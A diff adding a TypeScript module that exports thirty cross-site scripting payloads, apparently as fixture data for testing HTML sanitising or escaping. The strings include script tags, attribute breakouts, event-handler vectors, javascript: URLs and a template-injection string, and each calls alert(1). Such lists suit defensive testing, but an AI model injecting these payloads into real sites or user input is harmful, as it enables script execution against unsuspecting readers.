@@ -1,0 +1,36 @@
+/**
+ * Thirty ways to have a text run as a script where somebody else reads it. Each calls `alert` when it succeeds, most
+ * at once, some at a touch.
+ */
+export const scriptTexts: readonly string[] = [
+  '<script>alert(1)</script>',
+  '<ScRiPt >alert(1)</sCrIpT>',
+  '"><script>alert(1)</script>',
+  '</script><script>alert(1)</script>',
+  '</title><script>alert(1)</script>',
+  '</textarea><script>alert(1)</script>',
+  '</style><img src=x onerror=alert(1)>',
+  '--><img src=x onerror=alert(1)>',
+  '<img src=x onerror=alert(1)>',
+  '"><img src=x onerror="alert(1)">',
+  "'><img src=x onerror='alert(1)'>",
+  '<img src="x`<script>alert(1)</script>"` onerror=alert(1)>',
+  '<image src=x onerror=alert(1)>',
+  '<svg onload=alert(1)>',
+  '<svg/onload=alert(1)>',
+  '<svg><script>alert(1)</script></svg>',
+  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
+  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
+  '<body onload=alert(1)>',
+  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
+  '<iframe src="javascript:alert(1)"></iframe>',
+  '<object data="data:text/html,<script>alert(1)</script>"></object>',
+  '<details open ontoggle=alert(1)>x</details>',
+  '<input autofocus onfocus=alert(1)>',
+  '<video><source onerror=alert(1)></video>',
+  '<audio src=x onerror=alert(1)>',
+  '<a href="javascript:alert(1)">here</a>',
+  'javascript:alert(1)//',
+  "' onmouseover='alert(1)",
+  '{{constructor.constructor("alert(1)")()}}$\u{7b}alert(1)}',
+];
